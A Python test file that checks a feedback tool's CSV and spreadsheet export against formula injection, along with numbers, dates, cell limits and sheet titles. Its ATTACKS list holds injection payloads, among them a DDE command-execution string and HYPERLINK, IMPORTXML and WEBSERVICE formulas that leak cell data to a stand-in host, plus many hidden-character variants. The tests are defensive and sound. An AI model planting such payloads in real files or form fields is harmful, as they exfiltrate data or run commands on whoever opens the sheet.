import csv
import io
import subprocess
import sys
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from feedback.outputs.tables import CUT, LONGEST_CELL, csv_bytes, formula_safe, xlsx_bytes

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("https://example.org/?v=",A1),"//a")',
    '=WEBSERVICE("https://example.org")',
    "==1",
    "=",
    "+1+1",
    "+44 20 7946 0000",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)",
    "@mention",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\nplain",
    "\r\n=1+1",
    " =1+1",
    "   \t  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{IDEOGRAPHIC SPACE}=1+1",
    "\N{EN QUAD}@SUM(1)",
    '"=1+1',
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    '" =1+1"',
    "\N{LEFT DOUBLE QUOTATION MARK}=1+1\N{RIGHT DOUBLE QUOTATION MARK}",
    "«=1+1»",
    "`=1+1",
    "\uff02=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\ufe621",
    "\N{MINUS SIGN}1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200e\u200f=1+1",
    "\u202e=1+1",
    "\u2060@SUM(1)",
    "\u00ad=1+1",
    "\u180e=1+1",
    "\u3164=1+1",
    "\u115f=1+1",
    "\u2800=1+1",
    "\u034f=1+1",
    "\ufe0f=1+1",
    "\U000e0020=1+1",
    "\x00=1+1",
    "\x01=1+1",
    "\x08=1+1",
    "\x1b=1+1",
    "\x7f=1+1",
    "\x85=1+1",
    "\x0b=1+1",
    "\x0c=1+1",
    "\ue000=1+1",
    "\ufffe=1+1",
    "\u2028=1+1",
]
HARMLESS = [
    "We felt listened to",
    "5 - 3 people came",
    "a=b",
    "mail me @ home",
    "“Nobody asked us”",
    "  indented",
    "£5",
    "#VALUE!",
    "😀",
    "مرحبا",
    "",
]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet_of(data: bytes):
    return load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize("attack", ATTACKS, ids=ascii)
def test_no_text_becomes_a_formula_in_a_csv_file(attack):
    header, row = csv_rows(csv_bytes([attack, "n"], [[attack, 1]]))

    assert header == ["'" + attack, "n"]
    assert row == ["'" + attack, "1"]


@pytest.mark.parametrize("attack", ATTACKS, ids=ascii)
def test_no_text_becomes_a_formula_in_a_spreadsheet(attack):
    data = xlsx_bytes("Answers", [attack, "n"], [[attack, 1]])
    sheet = sheet_of(data)

    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"
        assert cell.value.startswith("'")
    assert b"<f" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_harmless_text_stays_as_it_is(text):
    assert csv_rows(csv_bytes([text, "n"], [[text, 1]])) == [[text, "n"], [text, "1"]]
    sheet = sheet_of(xlsx_bytes("Answers", [text, "n"], [[text, 1]]))
    assert (sheet["A1"].value or "") == (sheet["A2"].value or "") == text
    assert sheet["A2"].data_type == ("s" if text else "n")


@given(st.text(), st.sampled_from("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"), st.text())
def test_text_that_might_run_is_neutralised_whatever_unseen_stands_before_it(before, run, after):
    unseen = "".join(letter for letter in before if not letter.isprintable() or letter.isspace())

    assert formula_safe(unseen + run + after) == "'" + unseen + run + after


@settings(deadline=None, max_examples=60)
@given(st.lists(st.text(st.characters(exclude_categories=())), min_size=1, max_size=5))
def test_any_text_at_all_can_be_exported_and_opened_again(texts):
    rows = csv_rows(csv_bytes(texts, [texts]))
    sheet = sheet_of(xlsx_bytes("Answers", texts, [texts]))

    assert rows[0] == rows[1]
    assert sheet.max_row <= 2
    assert all(cell.data_type in "sn" for row in sheet for cell in row)


@pytest.mark.parametrize("number", [0, 12, -12, 0.5, -0.5, 1e21, -3e-9])
def test_numbers_stay_numbers_also_below_zero(number):
    assert csv_rows(csv_bytes(["n"], [[number]]))[1] == [str(number)]
    cell = sheet_of(xlsx_bytes("Answers", ["n"], [[number]]))["A2"]
    assert cell.data_type == "n"
    assert cell.value == number


def test_decimals_are_numbers_and_what_is_no_number_is_empty():
    row = [Decimal("-1.5"), None, float("nan"), float("inf")]

    assert csv_rows(csv_bytes("abcd", [row]))[1] == ["-1.5", "", "", ""]
    cells = next(sheet_of(xlsx_bytes("Answers", "abcd", [row])).iter_rows(min_row=2))
    assert [cell.value for cell in cells] == [-1.5, None, None, None]


def test_days_and_times_are_kept():
    early, day = date(1850, 3, 4), date(2026, 3, 4)
    time = datetime(2026, 3, 4, 9, 30, tzinfo=UTC)

    assert csv_rows(csv_bytes("abc", [[early, day, time]]))[1] == [
        "1850-03-04",
        "2026-03-04",
        "2026-03-04T09:30:00+00:00",
    ]
    cells = next(sheet_of(xlsx_bytes("Answers", "abc", [[early, day, time]])).iter_rows(min_row=2))
    assert [cell.value for cell in cells] == [
        "1850-03-04",
        datetime(2026, 3, 4),  # noqa: DTZ001 -- a spreadsheet knows no zones
        "2026-03-04T09:30:00+00:00",
    ]


def test_truth_is_kept():
    assert csv_rows(csv_bytes("ab", [[True, False]]))[1] == ["True", "False"]
    cells = next(sheet_of(xlsx_bytes("Answers", "ab", [[True, False]])).iter_rows(min_row=2))
    assert [cell.value for cell in cells] == [True, False]


def test_a_csv_file_begins_with_the_mark_that_spreadsheets_look_for():
    assert csv_bytes(["ż"], []) == "\ufeffż\r\n".encode()


def test_a_comment_of_several_lines_stays_in_one_cell():
    text = 'First, "this".\nThen that; and more.'

    assert csv_rows(csv_bytes(["a", "b"], [[text, 1]]))[1] == [text, "1"]
    assert sheet_of(xlsx_bytes("Answers", ["a"], [[text]]))["A2"].value == text


def test_characters_that_no_spreadsheet_may_hold_are_left_out():
    sheet = sheet_of(xlsx_bytes("Answers", ["a"], [["be\x00fo\x0bre\ud800\ufffe after"]]))

    assert sheet["A2"].value == "before after"


def test_the_escapes_of_spreadsheets_are_shown_as_they_were_typed():
    # Read by a spreadsheet _x005F_ stands for the underscore itself.
    sheet = sheet_of(xlsx_bytes("Answers", ["a"], [["_x003D_1+1"]]))

    assert sheet["A2"].value == "_x005F_x003D_1+1"


@pytest.mark.parametrize("letter", ["a", "😀", "="])
def test_text_longer_than_a_cell_holds_is_cut_with_a_mark(letter):
    sheet = sheet_of(xlsx_bytes("Answers", ["a"], [[letter * 40_000]]))
    value = sheet["A2"].value

    assert LONGEST_CELL - 1 <= len(value.encode("utf-16-le")) / 2 <= LONGEST_CELL
    assert value.endswith(letter + CUT)


def test_text_that_just_fits_a_cell_is_not_cut():
    text = "a" * LONGEST_CELL

    assert sheet_of(xlsx_bytes("Answers", ["a"], [[text]]))["A2"].value == text


@pytest.mark.parametrize(
    ("asked", "given"),
    [
        ("Answers", "Answers"),
        ("What changed? [2025/26]: *all*", "What changed 2025 26 all"),
        ("'=quoted'", "=quoted"),
        ("x" * 40, "x" * 31),
        ("\x00???", "1"),
        ("", "1"),
    ],
)
def test_a_sheet_gets_a_title_it_may_carry(asked, given):
    assert sheet_of(xlsx_bytes(asked, ["a"], [])).title == given


def test_the_heading_stays_in_view():
    sheet = sheet_of(xlsx_bytes("Answers", ["a"], [[1]]))

    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold and not sheet["A2"].font.bold


def test_rows_are_read_once_and_one_at_a_time():
    def rows():
        for number in range(1000):
            yield (number, f"answer {number}")

    assert len(csv_rows(csv_bytes(["n", "text"], rows()))) == 1001
    assert sheet_of(xlsx_bytes("Answers", ["n", "text"], rows())).max_row == 1001


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch):
    monkeypatch.setattr("feedback.outputs.tables.MOST_ROWS", 3)

    xlsx_bytes("Answers", ["a"], [[1], [2]])
    with pytest.raises(ValueError, match="holds 3 rows"):
        xlsx_bytes("Answers", ["a"], [[1], [2], [3]])


def test_rows_that_break_off_leave_no_file_behind(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def rows():
        yield ["one"]
        raise LookupError("the database went away")

    with pytest.raises(LookupError):
        xlsx_bytes("Answers", ["a"], rows())
    assert list(tmp_path.iterdir()) == []


def test_a_worker_that_never_exports_does_not_load_the_spreadsheet_library():
    looked = "import sys, feedback.outputs.tables as t; t.csv_bytes(['a'], [[1]]); "
    looked += "sys.exit('openpyxl' in sys.modules)"

    assert subprocess.run([sys.executable, "-c", looked], check=False).returncode == 0
